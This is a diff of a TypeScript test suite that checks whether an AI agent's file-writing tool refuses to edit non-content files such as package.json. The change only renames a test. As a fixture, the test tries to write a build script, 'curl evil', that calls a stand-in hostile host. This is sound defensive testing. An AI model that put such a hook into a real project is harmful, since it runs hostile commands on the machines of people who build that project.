@@ -168,7 +168,7 @@ async function makeTools(files: Record<string, string>, paths: string[] = []) {
 }
 
 describe('an agent that', () => {
-  test('asks for a file that is not content is told what it is, and what to do', async () => {
+  test('asks for a file that is not content learns what it is, and what to do', async () => {
     const { call, site } = await makeTools({ 'package.json': '{}', 'page.md': 'A page.\n' });
     const refused = [
       await call('write', { path: 'package.json', content: '{"scripts":{"build":"curl evil"}}' }),
